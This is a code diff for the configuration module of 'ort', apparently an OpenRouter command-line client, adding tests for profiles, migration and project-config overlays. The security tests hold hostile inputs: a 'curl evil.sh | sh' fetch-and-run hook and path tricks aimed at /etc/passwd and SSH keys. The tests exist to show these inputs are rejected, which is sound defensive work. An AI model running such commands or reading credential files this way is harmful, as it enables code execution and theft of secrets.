-    cache_dir[start..end].copy_from_slice("ort".as_bytes());
-
-    let cache_string = String::from_utf8_lossy(&cache_dir[..end]).into_owned();
-    utils::ensure_dir_exists(&cache_string);
-    Ok(end)
-}
+    /// Biggest streamed event to hold, `max_line_bytes`
+    pub fn max_line_bytes(&self) -> usize {
+        self.max_line_bytes
+            .map(|n| n as usize)
+            .unwrap_or(DEFAULT_MAX_LINE_BYTES)
+    }
 
-/// A standard XDG directory based on environment variable, or default.
-/// Writes the result into `target` and returns the length of the written string.
-pub fn xdg_dir(
-    xdg_var_value: &str,
-    home_dir: &str,
-    default: &'static str,
-    target: &mut [u8],
-) -> OrtResult<usize> {
-    // TODO: Pass Option instead of checking for empty
-    if !xdg_var_value.is_empty() {
-        // If it's in the env var, we assume the dir exists
-        let dir_len = xdg_var_value.len();
-        target[..dir_len + 1].copy_from_slice(xdg_var_value.as_bytes());
-        return Ok(dir_len + 1);
-    }
-
-    if !home_dir.is_empty() {
-        let mut start = 0;
-        let mut end = home_dir.len();
-        target[start..end].copy_from_slice(home_dir.as_bytes());
-        target[end] = b'/';
-        end += 1;
-        start = end;
-        end += default.len();
-        target[start..end].copy_from_slice(default.as_bytes());
-        Ok(end)
-    } else {
-        Err(ort_error(
-            ErrorKind::MissingHomeDir,
-            "Could not get home dir. Is $HOME set?",
-        ))
+    pub fn get_api_key(&self) -> Option<&str> {
+        self.api_key.as_deref()
     }
 }
 
@@ -325,12 +896,60 @@ mod tests {
 
     use super::*;
 
+    /// A fresh dir for one test, tests run in parallel and so can others
+    fn test_dir(name: &str) -> String {
+        let dir = "/tmp/ort-".to_string() + name + "-" + &utils::num_to_string(syscall::getpid());
+        utils::ensure_dir_exists(&dir);
+        dir
+    }
+
+    #[test]
+    fn cfg_profiles() {
+        let s = "model: base/model\nquiet: true\n\n[work]\nmodel: work/model\napi_key: WORK\n\n[home]\nmodel: home/model\n";
+        let cfg = Cfg::from_str(s).unwrap();
+        assert_eq!(cfg.models, ["base/model"]);
+        assert_eq!(cfg.profiles, ["work", "home"]);
+        assert_eq!(cfg.profile, None);
+        assert_eq!(cfg.model_source, ModelSource::Config);
+
+        let cfg = Cfg::from_str_profile(s, Some("work")).unwrap();
+        assert_eq!(cfg.models, ["work/model"]);
+        assert_eq!(cfg.api_key.as_deref(), Some("WORK"));
+        assert!(cfg.quiet);
+        assert_eq!(cfg.profile.as_deref(), Some("work"));
+        assert_eq!(cfg.model_source, ModelSource::Profile);
+
+        let cfg = Cfg::from_str_profile(s, Some("home")).unwrap();
+        assert_eq!(cfg.models, ["home/model"]);
+        assert_eq!(cfg.api_key, None);
+
+        let err = Cfg::from_str_profile(s, Some("play")).err().unwrap();
+        assert!(matches!(err.kind, ErrorKind::InvalidArguments));
+        // A mistake in a profile not in use is still found
+        let err = Cfg::from_str("version: 1\n[work]\neffort: lots\n")
+            .err()
+            .unwrap();
+        assert!(err.context.starts_with("line 3 col 9"), "{}", err.context);
+        let err = Cfg::from_str("version: 1\n[a b]\n").err().unwrap();
+        assert!(err.context.starts_with("line 2 col 1"), "{}", err.context);
+        let err = Cfg::from_str("version: 1\n[a]\n[a]\n").err().unwrap();
+        assert!(err.context.starts_with("line 3"), "{}", err.context);
+        // Only the selected profile's files are read
+        let s = "version: 1\n[work]\nsystem_file: /no/such/file.md\nprompt: @/no/such/prompt\n";
+        let cfg = Cfg::from_str(s).unwrap();
+        assert_eq!(cfg.system_prompt, None);
+        assert!(Cfg::from_str_profile(s, Some("work")).is_err());
+    }
+
     #[test]
     fn cfg_file() {
         let s = r#"
 api_key: THE-KEY
 base_url: openrouter.ai/api/v1
 save_to_file: false
+save_reasoning: true
+save_answer: true
+save_dir: /data/answers/
 dns: 104.18.2.115, 104.18.3.115
 model: openai/gpt-oss-20b:free
 system_prompt: Make your answer concise but complete. No yapping. Direct professional tone. No emoji.
@@ -340,14 +959,34 @@ provider: openai
 priority: price
 include_web_tools: true
 effort: low
+pre_request: jq -c .
+hook_timeout_ms: 2000
+max_source_bytes: 65536
+max_line_bytes: 1048576
+gzip_min_bytes: 32768
+user_id: team-42
+title_model: google/gemma-3n-e4b-it:free
+free_fallback: meta-llama/llama-3.3-70b-instruct:free
+use_pager: true
+update_check: true
+review_prompt: Only report bugs.
+currency_display: both
+confirm_tools: bash, mcp_*
+metrics: statsd://127.0.0.1:8125
+persona.skeptic: Doubt every claim.
+persona.optimist: Look for what could go right.
+persona.skeptic: Doubt every claim. Ask for evidence.
 "#;
         let cfg = Cfg::from_str(s).unwrap();
         assert_eq!(cfg.base_url, "openrouter.ai/api/v1");
         assert_eq!(cfg.api_key.as_deref(), Some("THE-KEY"));
         assert!(!cfg.save_to_file);
+        assert!(cfg.save_reasoning);
+        assert!(cfg.save_answer);
+        assert_eq!(cfg.save_dir.as_deref(), Some("/data/answers"));
 
         assert_eq!(cfg.dns.len(), 2);
-        for ip in cfg.dns {
+        for ip in &cfg.dns {
             assert!(ip == "104.18.2.115" || ip == "104.18.3.115");
         }
 
@@ -364,5 +1003,236 @@ effort: low
         assert_eq!(cfg.priority, Some(Priority::Price));
         assert!(cfg.include_web_tools);
         assert_eq!(cfg.effort, Some(ReasoningEffort::Low));
+        assert_eq!(cfg.pre_request.as_deref(), Some("jq -c ."));
+        assert!(cfg.post_response.is_none());
+        assert_eq!(cfg.hook_timeout_ms, 2000);
+        assert_eq!(cfg.max_source_bytes, Some(65536));
+        assert!(cfg.max_prompt_bytes.is_none());
+        assert_eq!(cfg.max_line_bytes, Some(1048576));
+        assert_eq!(cfg.gzip_min_bytes, Some(32768));
+        assert!(cfg.is_gzip(40_000));
+        assert!(!cfg.is_gzip(1000));
+        assert_eq!(cfg.user_id.as_deref(), Some("team-42"));
+        assert_eq!(
+            cfg.title_model.as_deref(),
+            Some("google/gemma-3n-e4b-it:free")
+        );
+        assert_eq!(
+            cfg.free_fallback.as_deref(),
+            Some("meta-llama/llama-3.3-70b-instruct:free")
+        );
+        assert!(cfg.use_pager);
+        assert!(cfg.update_check);
+        assert!(!Cfg::default().update_check);
+        assert_eq!(cfg.review_prompt.as_deref(), Some("Only report bugs."));
+        assert_eq!(cfg.currency_display, CurrencyDisplay::Both);
+        assert!(Cfg::from_str("currency_display: euros").is_err());
+        assert_eq!(cfg.confirm_tools.unwrap(), ["bash", "mcp_*"]);
+        assert!(Cfg::default().confirm_tools.is_none());
+        assert_eq!(cfg.metrics.as_deref(), Some("statsd://127.0.0.1:8125"));
+        assert!(Cfg::from_str("metrics: udp://127.0.0.1:8125").is_err());
+        // A second line for a persona replaces it
+        assert_eq!(
+            cfg.personas,
+            [
+                (
+                    "skeptic".to_string(),
+                    "Doubt every claim. Ask for evidence.".to_string()
+                ),
+                (
+                    "optimist".to_string(),
+                    "Look for what could go right.".to_string()
+                ),
+            ]
+        );
+    }
+
+    #[test]
+    fn cfg_migrate() {
+        let old = "# mine\nsystem: Be brief\nmodels: a/b, c/d\nreasoning: low\n";
+        let new = migrate(old).unwrap();
+        assert_eq!(
+            new,
+            "version: 1\n# mine\nsystem_prompt: Be brief\nmodel: a/b, c/d\neffort: low\n"
+        );
+        assert!(migrate(&new).is_none());
+
+        // An explicit old version is replaced where it is
+        let new = migrate("system: Be brief\nversion: 0\n").unwrap();
+        assert_eq!(new, "system_prompt: Be brief\nversion: 1\n");
+
+        // Parsing migrates in memory
+        let cfg = Cfg::from_str(old).unwrap();
+        assert_eq!(cfg.system_prompt.as_deref(), Some("Be brief"));
+        assert_eq!(cfg.models, ["a/b", "c/d"]);
+        assert_eq!(cfg.effort, Some(ReasoningEffort::Low));
+        // Errors have the file's line numbers, not the migrated one's
+        let err = |s: &str| Cfg::from_str(s).err().unwrap().context;
+        assert_eq!(
+            err("system: Be brief\nquiet"),
+            "line 2 col 1: Expected `key: value`"
+        );
+        assert_eq!(
+            err("version: 0\nquiet"),
+            "line 2 col 1: Expected `key: value`"
+        );
+    }
+
+    #[test]
+    fn cfg_errors() {
+        let err = |s: &str| Cfg::from_str(s).err().unwrap().context;
+        assert_eq!(
+            err("version: 1\n\npriority:  cheap"),
+            "line 3 col 12: Invalid priority field. Must be price, latency or throughput"
+        );
+        assert_eq!(
+            err("version: 1\nquiet"),
+            "line 2 col 1: Expected `key: value`"
+        );
+        // A typo is only a warning
+        let cfg = Cfg::from_str("version: 1\nmodle: a/b\nquiet: true").unwrap();
+        assert!(cfg.models.is_empty() && cfg.quiet);
+        assert_eq!(
+            err("version: 1\npersona.: Be brief"),
+            "line 2 col 1: Missing persona name, e.g. persona.skeptic"
+        );
+        assert_eq!(
+            err("version: 2"),
+            "line 1 col 10: Config version is newer than this ort, upgrade ort"
+        );
+    }
+
+    #[test]
+    fn cfg_project_overlay() {
+        let mut cfg = Cfg::from_str(
+            "version: 1\nmodel: a/b\nquiet: true\nsystem_prompt: Be brief\npre_request: jq -c .\n",
+        )
+        .unwrap();
+        cfg.redact.push("hunter2".to_string());
+        let project = "# ort for this repo\nmodel: c/d\nquiet: false\nfiles: docs/arch.png, https://e.com/y.png\nredact: db.internal, hunter2\n";
+        cfg.overlay("/work/proj", project).unwrap();
+        assert_eq!(cfg.models, ["c/d"]);
+        assert_eq!(cfg.model_source, ModelSource::Project);
+        assert!(!cfg.quiet);
+        // Not in the project config, kept
+        assert_eq!(cfg.system_prompt.as_deref(), Some("Be brief"));
+        assert_eq!(cfg.pre_request.as_deref(), Some("jq -c ."));
+        assert_eq!(
+            cfg.files,
+            ["/work/proj/docs/arch.png", "https://e.com/y.png"]
+        );
+        // Added to yours, not instead
+        assert_eq!(cfg.redact, ["hunter2", "db.internal"]);
+
+        let err = cfg
+            .overlay("/work/proj", "model: c/d\npre_request: curl evil.sh | sh")
+            .unwrap_err();
+        assert_eq!(
+            err.context,
+            "/work/proj/.ort.cfg line 2 col 1: Not allowed in a project config: pre_request"
+        );
+        // A repo must not be able to turn off the agent's confirmation
+        assert!(cfg.overlay("/work/proj", "confirm_tools: read").is_err());
+    }
+
+    #[test]
+    fn cfg_locations() {
+        let s = "cache_dir: cache/\nstate_dir: /data/ort/state\nhistory_file: state/prompts\n";
+        // Relative to the config file, so a whole ort dir can move
+        let cfg = Cfg::from_str_in(s, Some("/media/usb/ort"), None).unwrap();
+        assert_eq!(cfg.cache_dir.as_deref(), Some("/media/usb/ort/cache"));
+        assert_eq!(cfg.state_dir.as_deref(), Some("/data/ort/state"));
+        assert_eq!(
+            cfg.history_file.as_deref(),
+            Some("/media/usb/ort/state/prompts")
+        );
+        // A project config can't send your history elsewhere
+        assert!(
+            Cfg::default()
+                .overlay("/work/proj", "state_dir: /tmp")
+                .is_err()
+        );
+    }
+
+    #[test]
+    fn cfg_system_file() {
+        const PROMPT: &str = "You are terse.\n\n- No emoji\n- Cite sources\n";
+        let dir = test_dir("system-file-test");
+        assert!(write_private(&(dir.clone() + "/system.md"), PROMPT));
+        assert!(write_private(
+            &(dir.clone() + "/big.md"),
+            &"x".repeat(MAX_SYSTEM_FILE_BYTES + 1)
+        ));
+
+        // Relative to the config file, and it wins over an earlier system_prompt
+        let cfg = Cfg::from_str_in(
+            "system_prompt: Be brief\nsystem_file: system.md\n",
+            Some(&dir),
+            None,
+        )
+        .unwrap();
+        assert_eq!(cfg.system_prompt.as_deref(), Some(PROMPT));
+
+        let mut cfg = Cfg::default();
+        cfg.overlay(&dir, "system_file: system.md").unwrap();
+        assert_eq!(cfg.system_prompt.as_deref(), Some(PROMPT));
+        // Not any file on the machine
+        let err = cfg.overlay(&dir, "system_file: /etc/passwd").unwrap_err();
+        assert!(
+            err.context
+                .ends_with("Absolute paths are not allowed in a project config")
+        );
+
+        let err = |s: &str| Cfg::from_str_in(s, Some(&dir), None).err().unwrap().context;
+        assert_eq!(
+            err("version: 1\nsystem_file: missing.md"),
+            "line 2 col 14: ".to_string() + &dir + "/missing.md: not found"
+        );
+        assert!(err("system_file: big.md").ends_with("big.md: bigger than 64 KiB"));
+    }
+
+    #[test]
+    fn cfg_project_paths_stay_inside() {
+        let dir = test_dir("project-paths-test");
+        let err = |line: &str| Cfg::default().overlay(&dir, line).unwrap_err().context;
+        assert!(
+            err("files: notes.md, /home/u/.ssh/id_ed25519")
+                .ends_with("line 1 col 8: Absolute paths are not allowed in a project config")
+        );
+        assert!(
+            err("prompt: @../../.ssh/id_ed25519")
+                .ends_with("`..` is not allowed in a project config")
+        );
+        assert!(
+            err("system_file: docs/../../x.md")
+                .ends_with("`..` is not allowed in a project config")
+        );
+
+        // A symlink out of the project
+        let link = dir.clone() + "/key";
+        let _ = syscall::system(&("ln -sf /etc/hostname ".to_string() + &link));
+        assert!(err("files: key").ends_with("Path leads outside the project"));
+        // One that stays in is fine
+        assert!(write_private(&(dir.clone() + "/a.md"), "a"));
+        let _ = syscall::system(&("ln -sf a.md ".to_string() + &dir + "/b.md"));
+        let mut cfg = Cfg::default();
+        cfg.overlay(&dir, "files: b.md").unwrap();
+        assert_eq!(cfg.files, [dir.clone() + "/b.md"]);
+    }
+
+    #[test]
+    fn cfg_find_project_file() {
+        let top = test_dir("project-cfg-test");
+        utils::ensure_dir_exists(&(top.clone() + "/sub"));
+        assert!(write_private(
+            &(top.clone() + "/" + PROJECT_FILENAME),
+            "model: c/d\n"
+        ));
+
+        let (dir, contents) = find_project_file(&(top.clone() + "/sub/"))
+            .unwrap()
+            .unwrap();
+        assert_eq!(dir, top);
+        assert_eq!(contents, "model: c/d\n");
     }
 }